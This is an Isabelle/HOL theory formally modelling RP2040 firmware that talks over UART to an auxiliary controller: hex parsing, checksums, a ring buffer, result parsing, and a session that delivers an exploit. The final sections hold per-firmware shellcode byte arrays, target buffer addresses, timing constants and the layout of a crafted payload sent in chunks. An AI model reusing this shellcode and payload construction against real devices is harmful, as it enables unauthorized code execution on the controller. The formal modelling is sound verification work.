theory Spec2Isabelle
  imports Main "HOL-Library.Word"
begin

unbundle bit_operations_syntax

section \<open>Machine types\<close>

text \<open>
  The firmware is built for the RP2040 (a 32-bit ARM Cortex-M0+, little endian), so
  \<open>size_t\<close> and \<open>u32\<close> are 32-bit words and \<open>u8\<close> is an 8-bit word. A
  \<open>std::string\<close> or \<open>std::string_view\<close> is a \<open>string\<close> (a list of 8-bit
  characters); a \<open>std::vector<u8>\<close> or \<open>std::array<u8, N>\<close> is a list of bytes.
\<close>

type_synonym u8 = "8 word"
type_synonym u32 = "32 word"
type_synonym size_t = "32 word"

definition u8_of_char :: "char \<Rightarrow> u8" where
  "u8_of_char c = of_nat (of_char c)"

definition char_of_u8 :: "u8 \<Rightarrow> char" where
  "char_of_u8 b = char_of (unat b)"

section \<open>Hexadecimal text\<close>

definition hex_digit_val :: "char \<Rightarrow> nat option" where
  "hex_digit_val c =
     (let n = (of_char c :: nat) in
      if 48 \<le> n \<and> n \<le> 57 then Some (n - 48)
      else if 65 \<le> n \<and> n \<le> 70 then Some (n - 55)
      else if 97 \<le> n \<and> n \<le> 102 then Some (n - 87)
      else None)"

definition is_hex_digit :: "char \<Rightarrow> bool" where
  "is_hex_digit c = (hex_digit_val c \<noteq> None)"

definition hex_value :: "string \<Rightarrow> nat" where
  "hex_value ds = foldl (\<lambda>acc c. acc * 16 + the (hex_digit_val c)) 0 ds"

text \<open>
  Modelled from the spec: \<open>hex2buf\<close> of \<open>string_utils.h\<close>, which is not among the
  sources. The spec calls the checksum suffix "two hex digits" and the ROM passthrough
  "hex-encoded raw bytes": the text is decoded two digits to a byte, and the decoding
  fails (the C++ function returns false, here \<open>None\<close>) on an odd length or on a
  character that is no hex digit.
\<close>

fun hex2buf :: "string \<Rightarrow> u8 list option" where
  "hex2buf [] = Some []"
| "hex2buf [c] = None"
| "hex2buf (a # b # rest) =
     (if is_hex_digit a \<and> is_hex_digit b then
        (case hex2buf rest of
           None \<Rightarrow> None
         | Some bs \<Rightarrow> Some (of_nat (hex_value [a, b]) # bs))
      else None)"

text \<open>
  Modelled from the spec: \<open>strip_trailing_crlf\<close> of \<open>string_utils.h\<close>, which is
  not among the sources. The spec: validation removes "any trailing CR/LF".
\<close>

definition is_crlf :: "char \<Rightarrow> bool" where
  "is_crlf c = (c = CHR 0x0D \<or> c = CHR 0x0A)"

definition strip_trailing_crlf :: "string \<Rightarrow> string" where
  "strip_trailing_crlf line = rev (dropWhile is_crlf (rev line))"

text \<open>\<open>std::string::find_last_of\<close> for one character; \<open>None\<close> is \<open>npos\<close>.\<close>

fun find_last_of :: "string \<Rightarrow> char \<Rightarrow> nat option" where
  "find_last_of [] c = None"
| "find_last_of (x # xs) c =
     (case find_last_of xs c of
        Some i \<Rightarrow> Some (Suc i)
      | None \<Rightarrow> if x = c then Some 0 else None)"

section \<open>Line checksum\<close>

definition checksum :: "string \<Rightarrow> u8" where
  "checksum buf = foldl (\<lambda>csum b. csum + u8_of_char b) 0 buf"

text \<open>
  \<open>validate_line\<close> returns the boolean and the line as it leaves it. The read
  \<open>csum[0]\<close> of an empty vector would be undefined behaviour: that outcome is
  \<open>None\<close>.
\<close>

definition validate_line :: "string \<Rightarrow> (bool \<times> string) option" where
  "validate_line line0 =
     (if line0 = [] then Some (False, line0)
      else
        let line = strip_trailing_crlf line0 in
        (case find_last_of line (CHR '':'') of
           None \<Rightarrow> Some (False, line)
         | Some last_colon \<Rightarrow>
             if last_colon + 3 \<noteq> length line then Some (False, line)
             else
               (case hex2buf (drop (last_colon + 1) line) of
                  None \<Rightarrow> Some (False, line)
                | Some csum \<Rightarrow>
                    (case csum of
                       [] \<Rightarrow> None
                     | c0 # _ \<Rightarrow>
                         if c0 \<noteq> checksum (take last_colon line) then Some (False, line)
                         else Some (True, take last_colon line)))))"

section \<open>Ring buffer\<close>

text \<open>
  \<open>Buffer<BufferSize>\<close>: the template parameter is the first argument \<open>N\<close> of
  every operation (the program instantiates it at 1024). The \<open>uart_\<close> pointer plays no
  part in the queue and is left out.
\<close>

record Buffer =
  wpos :: size_t
  rpos :: size_t
  num_newlines :: size_t
  buffer :: "u8 list"

definition Buffer_init :: "size_t \<Rightarrow> Buffer" where
  "Buffer_init N = \<lparr>wpos = 0, rpos = 0, num_newlines = 0, buffer = replicate (unat N) 0\<rparr>"

definition len_mask :: "size_t \<Rightarrow> size_t" where
  "len_mask N = N - 1"

definition add :: "size_t \<Rightarrow> size_t \<Rightarrow> size_t \<Rightarrow> size_t" where
  "add N val addend = (val + addend) AND len_mask N"

definition read_available :: "size_t \<Rightarrow> Buffer \<Rightarrow> size_t" where
  "read_available N s =
     (if wpos s \<ge> rpos s then wpos s - rpos s else N - rpos s + wpos s)"

definition empty :: "Buffer \<Rightarrow> bool" where
  "empty s = (rpos s = wpos s)"

definition newline :: u8 where
  "newline = 0x0A"

text \<open>The scan of \<open>read_line\<close>: the \<open>for\<close> loop over \<open>i < avail\<close>.\<close>

function read_line_scan ::
  "size_t \<Rightarrow> Buffer \<Rightarrow> string \<Rightarrow> size_t \<Rightarrow> size_t \<Rightarrow> bool \<times> Buffer \<times> string" where
  "read_line_scan N s line i avail =
     (if i < avail then
        (let cpos = add N (rpos s) i;
             c = buffer s ! unat cpos
         in if c = newline then
              (True, s\<lparr>num_newlines := num_newlines s - 1, rpos := add N cpos 1\<rparr>, line)
            else read_line_scan N s (line @ [char_of_u8 c]) (i + 1) avail)
      else (False, s, line))"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(N, s, line, i, avail). unat avail - unat i)")
  show "wf (measure (\<lambda>(N, s, line, i, avail). unat avail - unat i))"
    by simp
next
  fix N :: size_t and s :: Buffer and line :: string and i avail :: size_t
    and cpos :: size_t and c :: u8
  assume "i < avail"
  then have "unat (i + 1) = unat i + 1" and "unat i < unat avail"
    by unat_arith+
  then show "((N, s, line @ [char_of_u8 c], i + 1, avail), (N, s, line, i, avail))
      \<in> measure (\<lambda>(N, s, line, i, avail). unat avail - unat i)"
    by simp
qed

declare read_line_scan.simps [simp del]

definition read_line :: "size_t \<Rightarrow> Buffer \<Rightarrow> string \<Rightarrow> (bool \<times> Buffer \<times> string) option" where
  "read_line N s line =
     (if num_newlines s = 0 \<or> empty s then Some (False, s, line)
      else
        (case read_line_scan N s line 0 (read_available N s) of
           (got_line, s', line') \<Rightarrow>
             if got_line then
               (case validate_line line' of
                  None \<Rightarrow> None
                | Some (True, line'') \<Rightarrow> Some (True, s', line'')
                | Some (False, line'') \<Rightarrow> Some (False, s', []))
             else Some (False, s', [])))"

text \<open>\<open>read_buf\<close>: the bytes written through \<open>buf\<close> are returned as a list.\<close>

function read_buf_loop ::
  "size_t \<Rightarrow> Buffer \<Rightarrow> u8 list \<Rightarrow> size_t \<Rightarrow> size_t \<Rightarrow> Buffer \<times> u8 list" where
  "read_buf_loop N s out i len =
     (if i < len then
        (let c = buffer s ! unat (rpos s);
             s1 = (if c = newline then s\<lparr>num_newlines := num_newlines s - 1\<rparr> else s)
         in read_buf_loop N (s1\<lparr>rpos := add N (rpos s1) 1\<rparr>) (out @ [c]) (i + 1) len)
      else (s, out))"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(N, s, out, i, len). unat len - unat i)")
  show "wf (measure (\<lambda>(N, s, out, i, len). unat len - unat i))"
    by simp
next
  fix N :: size_t and s s1 :: Buffer and out :: "u8 list" and i len :: size_t and c :: u8
  assume "i < len"
  then have "unat (i + 1) = unat i + 1" and "unat i < unat len"
    by unat_arith+
  then show "((N, s1\<lparr>rpos := add N (rpos s1) 1\<rparr>, out @ [c], i + 1, len), (N, s, out, i, len))
      \<in> measure (\<lambda>(N, s, out, i, len). unat len - unat i)"
    by simp
qed

declare read_buf_loop.simps [simp del]

definition read_buf :: "size_t \<Rightarrow> Buffer \<Rightarrow> size_t \<Rightarrow> size_t \<times> Buffer \<times> u8 list" where
  "read_buf N s len0 =
     (let avail = read_available N s;
          len = min len0 avail
      in case read_buf_loop N s [] 0 len of (s', out) \<Rightarrow> (len, s', out))"

definition push :: "size_t \<Rightarrow> Buffer \<Rightarrow> u8 \<Rightarrow> Buffer" where
  "push N s b =
     (let wpos_next = add N (wpos s) 1;
          s1 = (if wpos_next = rpos s then s
                else s\<lparr>buffer := (buffer s)[unat (wpos s) := b], wpos := wpos_next\<rparr>)
      in if b = newline then s1\<lparr>num_newlines := num_newlines s1 + 1\<rparr> else s1)"

definition clear :: "Buffer \<Rightarrow> Buffer" where
  "clear s = s\<lparr>wpos := 0, rpos := 0, num_newlines := 0\<rparr>"

text \<open>
  The bytes the queue holds, oldest first: the \<open>read_available\<close> bytes from
  \<open>rpos\<close> on, which is what \<open>read_buf\<close> would drain.
\<close>

definition stored :: "size_t \<Rightarrow> Buffer \<Rightarrow> u8 list" where
  "stored N s =
     map (\<lambda>i. buffer s ! unat (add N (rpos s) (of_nat i))) [0..<unat (read_available N s)]"

text \<open>
  The invariant of the data model: at most \<open>capacity - 1\<close> bytes are held and the
  counter equals the number of newline bytes held.
\<close>

definition buffer_inv :: "size_t \<Rightarrow> Buffer \<Rightarrow> bool" where
  "buffer_inv N s =
     (unat (read_available N s) \<le> unat N - 1 \<and>
      unat (num_newlines s) = count_list (stored N s) newline)"

text \<open>
  What the type \<open>Buffer<BufferSize>\<close> itself guarantees of a state the operations
  have produced: the capacity is a power of two, the array has that many elements and
  both indices are masked.
\<close>

definition buffer_wf :: "size_t \<Rightarrow> Buffer \<Rightarrow> bool" where
  "buffer_wf N s =
     (N \<in> set (map (\<lambda>k. 2 ^ k) [0..<32]) \<and> length (buffer s) = unat N \<and>
      wpos s < N \<and> rpos s < N)"

section \<open>Formatting of numbers (\<open>std::format\<close>)\<close>

fun hex_min :: "nat \<Rightarrow> nat list" where
  "hex_min n = (if n < 16 then [n] else hex_min (n div 16) @ [n mod 16])"

declare hex_min.simps [simp del]

definition upper_digit :: "nat \<Rightarrow> char" where
  "upper_digit d = ''0123456789ABCDEF'' ! d"

definition lower_digit :: "nat \<Rightarrow> char" where
  "lower_digit d = ''0123456789abcdef'' ! d"

text \<open>\<open>{:0wX}\<close>: upper-case hexadecimal, padded with zeros to at least \<open>w\<close> digits.\<close>

definition format_0X :: "nat \<Rightarrow> nat \<Rightarrow> string" where
  "format_0X w n =
     (let ds = hex_min n in replicate (w - length ds) (CHR ''0'') @ map upper_digit ds)"

text \<open>\<open>{:x}\<close>: lower-case hexadecimal, no padding.\<close>

definition format_x :: "nat \<Rightarrow> string" where
  "format_x n = map lower_digit (hex_min n)"

text \<open>
  Modelled from the spec: \<open>buf2hex\<close> of \<open>string_utils.h\<close>, which is not among the
  sources. The spec calls the chunks "hex-encoded": two digits a byte, in upper case like the
  checksum that \<open>cmd_send\<close> appends (the case is this model's choice and shows only in
  the literal request texts of the example for claim C7).
\<close>

definition buf2hex :: "u8 list \<Rightarrow> string" where
  "buf2hex buf = concat (map (\<lambda>b. format_0X 2 (unat b)) buf)"

text \<open>
  Modelled from the spec: \<open>int_from_hex<u32>(str, offset)\<close> of \<open>string_utils.h\<close>,
  which is not among the sources. The spec: the status is "exactly 8 hex digits", and
  "bad hex" makes the line Unknown: the eight characters from \<open>offset\<close> on are
  decoded, and the result is empty (\<open>None\<close>) unless all eight are there and are hex
  digits.
\<close>

definition int_from_hex_u32 :: "string \<Rightarrow> nat \<Rightarrow> u32 option" where
  "int_from_hex_u32 str offset =
     (let ds = take 8 (drop offset str) in
      if length ds = 8 \<and> list_all is_hex_digit ds then Some (of_nat (hex_value ds)) else None)"

section \<open>Results\<close>

datatype ResultType = kTimeout | kUnknown | kComment | kInfo | kOk | kNg

text \<open>
  The fields \<open>type_\<close>, \<open>status_\<close> and \<open>response_\<close> of the source; a name
  cannot end with an underscore here, so they are \<open>rtype\<close>, \<open>rstatus\<close> and
  \<open>rresponse\<close>.
\<close>

record Result =
  rtype :: ResultType
  rstatus :: u32
  rresponse :: string

definition kInvalidStatus :: u32 where
  "kInvalidStatus = 0xFFFFFFFF"

definition kSuccess :: u32 where "kSuccess = 0"
definition kRxInputTooLong :: u32 where "kRxInputTooLong = 0xE0000002"
definition kRxInvalidChar :: u32 where "kRxInvalidChar = 0xE0000003"
definition kRxInvalidCsum :: u32 where "kRxInvalidCsum = 0xE0000004"
definition kUcmdEINVAL :: u32 where "kUcmdEINVAL = 0xF0000001"
definition kUcmdUnknownCmd :: u32 where "kUcmdUnknownCmd = 0xF0000006"
definition kEmcInReset :: u32 where "kEmcInReset = 0xdead0000"
definition kFwConstsVersionFailed :: u32 where "kFwConstsVersionFailed = 0xdead0001"
definition kFwConstsVersionUnknown :: u32 where "kFwConstsVersionUnknown = 0xdead0002"
definition kFwConstsInvalid :: u32 where "kFwConstsInvalid = 0xdead0003"
definition kSetPayloadTooLarge :: u32 where "kSetPayloadTooLarge = 0xdead0004"
definition kSetPayloadPuareq1Failed :: u32 where "kSetPayloadPuareq1Failed = 0xdead0005"
definition kSetPayloadPuareq2Failed :: u32 where "kSetPayloadPuareq2Failed = 0xdead0006"
definition kExploitVersionUnexpected :: u32 where "kExploitVersionUnexpected = 0xdead0007"
definition kExploitFailedEmcReset :: u32 where "kExploitFailedEmcReset = 0xdead0008"
definition kChipConstsInvalid :: u32 where "kChipConstsInvalid = 0xdead0009"
definition kRomFrame :: u32 where "kRomFrame = 0xdead000a"

definition new_timeout :: Result where
  "new_timeout = \<lparr>rtype = kTimeout, rstatus = kInvalidStatus, rresponse = []\<rparr>"

definition new_unknown :: "string \<Rightarrow> Result" where
  "new_unknown str = \<lparr>rtype = kUnknown, rstatus = kInvalidStatus, rresponse = str\<rparr>"

definition new_ok :: "u32 \<Rightarrow> string \<Rightarrow> Result" where
  "new_ok status str = \<lparr>rtype = kOk, rstatus = status, rresponse = str\<rparr>"

definition new_ng :: "u32 \<Rightarrow> string \<Rightarrow> Result" where
  "new_ng status str = \<lparr>rtype = kNg, rstatus = status, rresponse = str\<rparr>"

definition new_success :: "string \<Rightarrow> Result" where
  "new_success str = new_ok kSuccess str"

definition is_unknown :: "Result \<Rightarrow> bool" where "is_unknown r = (rtype r = kUnknown)"
definition is_comment :: "Result \<Rightarrow> bool" where "is_comment r = (rtype r = kComment)"
definition is_info :: "Result \<Rightarrow> bool" where "is_info r = (rtype r = kInfo)"
definition is_ok :: "Result \<Rightarrow> bool" where "is_ok r = (rtype r = kOk)"
definition is_ng :: "Result \<Rightarrow> bool" where "is_ng r = (rtype r = kNg)"
definition is_ok_or_ng :: "Result \<Rightarrow> bool" where "is_ok_or_ng r = (is_ok r \<or> is_ng r)"

definition is_ok_status :: "Result \<Rightarrow> u32 \<Rightarrow> bool" where
  "is_ok_status r status = (is_ok r \<and> rstatus r = status)"

definition is_ng_status :: "Result \<Rightarrow> u32 \<Rightarrow> bool" where
  "is_ng_status r status = (is_ng r \<and> rstatus r = status)"

definition is_success :: "Result \<Rightarrow> bool" where
  "is_success r = is_ok_status r kSuccess"

text \<open>\<open>std::string_view::starts_with\<close>.\<close>

definition starts_with :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "starts_with str p = (take (length p) str = p)"

definition from_str :: "string \<Rightarrow> Result" where
  "from_str str =
     (if length str > 2 \<and> starts_with str ''# '' then
        \<lparr>rtype = kComment, rstatus = kInvalidStatus, rresponse = drop 2 str\<rparr>
      else if length str > 3 \<and> starts_with str ''$$ '' then
        \<lparr>rtype = kInfo, rstatus = kInvalidStatus, rresponse = drop 3 str\<rparr>
      else
        let status_offset = 2 + 1;
            status_end = status_offset + 8
        in
          if length str < status_end then new_unknown str
          else
            let is_ok = starts_with str ''OK '';
                is_ng = starts_with str ''NG ''
            in
              if \<not> is_ok \<and> \<not> is_ng then new_unknown str
              else
                (case int_from_hex_u32 str status_offset of
                   None \<Rightarrow> new_unknown str
                 | Some status \<Rightarrow>
                     if length str > status_end then
                       (if str ! status_end \<noteq> CHR '' '' then new_unknown str
                        else \<lparr>rtype = (if is_ok then kOk else kNg), rstatus = status,
                               rresponse = drop (status_end + 1) str\<rparr>)
                     else \<lparr>rtype = (if is_ok then kOk else kNg), rstatus = status,
                            rresponse = []\<rparr>))"

definition format :: "Result \<Rightarrow> string" where
  "format r =
     (if is_ok_or_ng r then
        (if is_ok r then ''OK'' else ''NG'') @ '' '' @ format_0X 8 (unat (rstatus r)) @ '' '' @
        rresponse r
      else if is_comment r then ''# '' @ rresponse r
      else if is_info r then ''$$ '' @ rresponse r
      else if is_unknown r then rresponse r
      else ''timeout'')"

section \<open>The session with the auxiliary controller (\<open>UcmdClientEmc\<close>)\<close>

record FwConstants =
  ucmd_ua_buf_addr :: u32
  shellcode :: "u8 list"

record ChipConsts =
  filler_multiplier :: u32
  post_process_ms :: u32
  pwn_delay_us :: "64 word"

definition salina_consts :: ChipConsts where
  "salina_consts = \<lparr>filler_multiplier = 3, post_process_ms = 200, pwn_delay_us = 790\<rparr>"

definition salina2_consts :: ChipConsts where
  "salina2_consts = \<lparr>filler_multiplier = 6, post_process_ms = 800, pwn_delay_us = 900\<rparr>"

text \<open>The table \<open>fw_constants_map\<close> as the program starts with it.\<close>

definition fw_constants_map_init :: "(string \<times> FwConstants) list" where
  "fw_constants_map_init =
     [(''E1E 0001 0000 0004 13D0'',
       \<lparr>ucmd_ua_buf_addr = 0x1762e8,
        shellcode =
          [0x00, 0xb5, 0x47, 0xf2, 0x00, 0x60, 0xc0, 0xf2, 0x15, 0x00, 0x43,
           0xf6, 0xe0, 0x71, 0xc0, 0xf2, 0x17, 0x01, 0x08, 0x60, 0x01, 0x20,
           0x45, 0xf2, 0x24, 0x71, 0xc0, 0xf2, 0x17, 0x01, 0x08, 0x60, 0x40,
           0xf6, 0x95, 0x71, 0xc0, 0xf2, 0x12, 0x01, 0x88, 0x47, 0x00, 0xbd]\<rparr>),
      (''E1E 0001 0002 0003 1580'',
       \<lparr>ucmd_ua_buf_addr = 0x17de38,
        shellcode =
          [0x00, 0xb5, 0x4a, 0xf2, 0x30, 0x30, 0xc0, 0xf2, 0x15, 0x00, 0x4a,
           0xf2, 0xec, 0x61, 0xc0, 0xf2, 0x17, 0x01, 0x08, 0x60, 0x01, 0x20,
           0x4d, 0xf2, 0x40, 0x21, 0xc0, 0xf2, 0x17, 0x01, 0x08, 0x60, 0x42,
           0xf6, 0x31, 0x01, 0xc0, 0xf2, 0x12, 0x01, 0x88, 0x47, 0x00, 0xbd]\<rparr>),
      (''E1E 0001 0004 0002 1752'',
       \<lparr>ucmd_ua_buf_addr = 0x184d9c,
        shellcode =
          [0x00, 0xb5, 0x4d, 0xf2, 0x7c, 0x30, 0xc0, 0xf2, 0x15, 0x00, 0x41,
           0xf2, 0xc0, 0x11, 0xc0, 0xf2, 0x18, 0x01, 0x08, 0x60, 0x01, 0x20,
           0x43, 0xf6, 0x14, 0x71, 0xc0, 0xf2, 0x18, 0x01, 0x08, 0x60, 0x44,
           0xf2, 0x09, 0x31, 0xc0, 0xf2, 0x12, 0x01, 0x88, 0x47, 0x00, 0xbd]\<rparr>),
      (''E1E 0001 0008 0002 1B03'',
       \<lparr>ucmd_ua_buf_addr = 0x19261c,
        shellcode =
          [0x00, 0xb5, 0x45, 0xf6, 0xe8, 0x20, 0xc0, 0xf2, 0x16, 0x00, 0x4e,
           0xf2, 0x90, 0x21, 0xc0, 0xf2, 0x18, 0x01, 0x08, 0x60, 0x01, 0x20,
           0x41, 0xf2, 0x30, 0x71, 0xc0, 0xf2, 0x19, 0x01, 0x08, 0x60, 0x47,
           0xf6, 0xbd, 0x11, 0xc0, 0xf2, 0x12, 0x01, 0x88, 0x47, 0x00, 0xbd]\<rparr>)]"

text \<open>
  What the session does to the outside is recorded as a trace of events, in order: the
  strings written to the UART (with the \<open>wait_tx\<close> flag), the busy waits, the clearing
  of the receive ring buffer and the two moves of the reset line.
\<close>

datatype event =
    UartWrite string bool
  | BusyWaitMs nat
  | BusyWaitUs nat
  | RxClear
  | ResetSetLow
  | ResetRelease

text \<open>
  The state of the session. The fields ending in an underscore in the source lose it
  here. Two fields stand for the outside world:
  \<^item> \<open>rx_script\<close>: what the successive calls of \<open>UcmdClientEmc::read_line\<close> (that is,
    \<open>uart_rx_.read_line_timeout\<close>) come back with, \<open>Some line\<close> for a line that passed
    validation within the time limit and \<open>None\<close> for a timeout. The bytes arrive by
    interrupt while the session polls a clock, so the outcome of a read is an input of
    the model, and every statement below holds for every script. A script is finite: a
    run that returns has made finitely many reads, and once the script is used up every
    read times out;
  \<^item> \<open>reset_level\<close>: the level \<open>gpio_get\<close> samples on the reset line.
  Debug printing (\<open>dbg_println\<close>) does nothing unless \<open>ENABLE_DEBUG_STDIO\<close> is set
  and is left out.
\<close>

record UcmdClientEmc =
  rx_script :: "string option list"
  reset_level :: bool
  trace :: "event list"
  fw_constants_map :: "(string \<times> FwConstants) list"
  chip_consts :: ChipConsts
  fw_consts_valid :: bool
  fw_consts :: FwConstants
  in_rom :: bool

definition hax_cmd_name :: string where
  "hax_cmd_name = ''A''"

definition emit :: "event list \<Rightarrow> UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "emit es s = s\<lparr>trace := trace s @ es\<rparr>"

definition write_str_blocking :: "string \<Rightarrow> bool \<Rightarrow> UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "write_str_blocking buf wait_tx s = emit [UartWrite buf wait_tx] s"

definition busy_wait_ms :: "nat \<Rightarrow> UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "busy_wait_ms ms s = emit [BusyWaitMs ms] s"

definition busy_wait_us :: "nat \<Rightarrow> UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "busy_wait_us us s = emit [BusyWaitUs us] s"

definition uart_rx_clear :: "UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "uart_rx_clear s = emit [RxClear] s"

text \<open>\<open>EmcResetGpio\<close>: \<open>is_reset\<close> samples the line, \<open>reset\<close> pulses it low.\<close>

definition is_reset :: "UcmdClientEmc \<Rightarrow> bool" where
  "is_reset s = (reset_level s = False)"

definition reset_reset :: "UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "reset_reset s = emit [ResetSetLow, BusyWaitUs 100, ResetRelease] s"

text \<open>\<open>UcmdClientEmc::read_line\<close>: the next outcome of the script.\<close>

definition emc_read_line :: "nat \<Rightarrow> UcmdClientEmc \<Rightarrow> string option \<times> UcmdClientEmc" where
  "emc_read_line timeout_us s =
     (case rx_script s of
        [] \<Rightarrow> (None, s)
      | r # rs \<Rightarrow> (r, s\<lparr>rx_script := rs\<rparr>))"

function read_result :: "nat \<Rightarrow> UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "read_result timeout_us s =
     (case emc_read_line timeout_us s of
        (None, s') \<Rightarrow> (new_timeout, s')
      | (Some line, s') \<Rightarrow>
          (let result = from_str line in
           if is_ok_or_ng result then (result, s') else read_result timeout_us s'))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(t, s). length (rx_script s))")
    (auto simp: emc_read_line_def split: list.splits)

declare read_result.simps [simp del]

definition nak :: "UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "nak s = busy_wait_ms 10 (write_str_blocking [CHR 0x15] True s)"

text \<open>The echo wait of \<open>cmd_send\<close>: the \<open>while\<close> loop over the lines read back.\<close>

function cmd_send_wait_echo :: "string \<Rightarrow> nat \<Rightarrow> UcmdClientEmc \<Rightarrow> bool \<times> UcmdClientEmc" where
  "cmd_send_wait_echo cmdline timeout s =
     (case emc_read_line timeout s of
        (None, s') \<Rightarrow> (False, s')
      | (Some readback, s') \<Rightarrow>
          if readback = cmdline then (True, s') else cmd_send_wait_echo cmdline timeout s')"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(c, t, s). length (rx_script s))")
    (auto simp: emc_read_line_def split: list.splits)

declare cmd_send_wait_echo.simps [simp del]

definition cmd_text :: "string \<Rightarrow> string" where
  "cmd_text cmdline = cmdline @ '':'' @ format_0X 2 (unat (checksum cmdline)) @ [CHR 0x0A]"

definition cmd_send :: "string \<Rightarrow> bool \<Rightarrow> UcmdClientEmc \<Rightarrow> bool \<times> UcmdClientEmc" where
  "cmd_send cmdline wait_echo s =
     (let cmd = cmd_text cmdline;
          s1 = write_str_blocking cmd wait_echo s
      in if \<not> wait_echo then (True, s1)
         else cmd_send_wait_echo cmdline (length cmd * 200) s1)"

definition cmd_send_recv :: "string \<Rightarrow> nat \<Rightarrow> UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "cmd_send_recv cmdline timeout_us s =
     (case cmd_send cmdline True s of
        (False, s') \<Rightarrow> (new_timeout, s')
      | (True, s') \<Rightarrow> read_result timeout_us s')"

definition version :: "UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "version s = cmd_send_recv ''version'' 10000 s"

definition getserialno :: "UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "getserialno s = cmd_send_recv ''getserialno'' 10000 s"

text \<open>The command lines of the two requests: \<open>"puareq1 {:x}"\<close> and \<open>"puareq2 {:x} {}"\<close>.\<close>

definition puareq1_cmdline :: "u32 \<Rightarrow> string" where
  "puareq1_cmdline index = ''puareq1 '' @ format_x (unat index)"

definition puareq2_cmdline :: "u32 \<Rightarrow> u8 list \<Rightarrow> string" where
  "puareq2_cmdline index chunk = ''puareq2 '' @ format_x (unat index) @ '' '' @ buf2hex chunk"

definition puareq1 :: "u32 \<Rightarrow> UcmdClientEmc \<Rightarrow> bool \<times> UcmdClientEmc" where
  "puareq1 index s =
     (case cmd_send_recv (puareq1_cmdline index) 200000 s of
        (r, s') \<Rightarrow> (is_success r, s'))"

definition puareq2 :: "u32 \<Rightarrow> u8 list \<Rightarrow> UcmdClientEmc \<Rightarrow> bool \<times> UcmdClientEmc" where
  "puareq2 index chunk s =
     (case cmd_send_recv (puareq2_cmdline index chunk) 10000 s of
        (r, s') \<Rightarrow> (is_success r, s'))"

definition resolve_constants :: "UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "resolve_constants s =
     (if fw_consts_valid s then (new_success [], s)
      else
        (case version s of
           (result, s1) \<Rightarrow>
             if \<not> is_success result then
               (new_ng kFwConstsVersionFailed (format result), s1)
             else
               (let version_str = rresponse result in
                case map_of (fw_constants_map s1) version_str of
                  None \<Rightarrow> (new_ng kFwConstsVersionUnknown version_str, s1)
                | Some c \<Rightarrow> (new_success [], s1\<lparr>fw_consts := c, fw_consts_valid := True\<rparr>))))"

text \<open>The delivery loop of \<open>set_payload\<close>: chunks of \<open>chunk_len = 50\<close> bytes.\<close>

function set_payload_loop ::
  "u8 list \<Rightarrow> nat \<Rightarrow> u32 \<Rightarrow> UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "set_payload_loop payload pos idx s =
     (if pos < length payload then
        (let chunk = take (min (pos + 50) (length payload) - pos) (drop pos payload) in
         case puareq2 idx chunk s of
           (False, s') \<Rightarrow> (new_ng kSetPayloadPuareq2Failed [], s')
         | (True, s') \<Rightarrow> set_payload_loop payload (pos + 50) (idx + 1) s')
      else (new_success [], s))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(payload, pos, idx, s). length payload - pos)") auto

declare set_payload_loop.simps [simp del]

definition set_payload :: "u8 list \<Rightarrow> UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "set_payload payload s =
     (case puareq1 0 (nak s) of
        (False, s') \<Rightarrow> (new_ng kSetPayloadPuareq1Failed [], s')
      | (True, s') \<Rightarrow> set_payload_loop payload 0 0 s')"

text \<open>
  \<open>align_up\<close> at \<open>T = size_t\<close>. The remainder by zero is undefined behaviour in C++:
  that outcome is \<open>None\<close>.
\<close>

definition align_up :: "size_t \<Rightarrow> size_t \<Rightarrow> size_t option" where
  "align_up x align =
     (if align = 0 then None
      else (let rem = x mod align in Some (x + (align - rem))))"

text \<open>
  The bytes of \<open>payload_prefix\<close> as \<open>memcpy\<close> reads them on the little-endian,
  4-byte-aligned target: two \<open>cmd_entry_t\<close> of three \<open>u32\<close> each (24 bytes, the second
  entry all zero), \<open>cmd_name\<close> (the two bytes of \<open>"A"\<close> with its terminator, at
  offset 24) and two bytes of padding before \<open>shellcode\<close> at offset 28. The padding
  bytes are taken as zero.
\<close>

definition le32 :: "u32 \<Rightarrow> u8 list" where
  "le32 w = map (\<lambda>i. ucast (drop_bit (8 * i) w)) [0, 1, 2, 3]"

definition offsetof_cmd_name :: u32 where
  "offsetof_cmd_name = 24"

definition offsetof_shellcode :: u32 where
  "offsetof_shellcode = 28"

definition payload_prefix :: "u32 \<Rightarrow> u8 list" where
  "payload_prefix payload_addr =
     le32 (payload_addr + offsetof_cmd_name) @
     le32 ((payload_addr + offsetof_shellcode) OR 1) @
     le32 0xf @
     le32 0 @ le32 0 @ le32 0 @
     map u8_of_char hax_cmd_name @ [0] @
     [0, 0]"

definition payload_max_len :: size_t where
  "payload_max_len = 350"

text \<open>
  \<open>craft_and_set_payload\<close>. The vector is resized (zero-filled) to the aligned length
  and the prefix and the shellcode are copied to its front.
\<close>

definition craft_and_set_payload :: "UcmdClientEmc \<Rightarrow> (Result \<times> UcmdClientEmc) option" where
  "craft_and_set_payload s =
     (let payload_addr = ucmd_ua_buf_addr (fw_consts s);
          prefix = payload_prefix payload_addr;
          payload_len = (of_nat (length prefix) + of_nat (length (shellcode (fw_consts s))) :: size_t)
      in if payload_len > payload_max_len then Some (new_ng kSetPayloadTooLarge [], s)
         else
           (case align_up payload_len 50 of
              None \<Rightarrow> None
            | Some padded_len \<Rightarrow>
                (let payload =
                       prefix @ shellcode (fw_consts s) @
                       replicate (unat padded_len - length prefix - length (shellcode (fw_consts s))) 0
                 in Some (set_payload payload s))))"
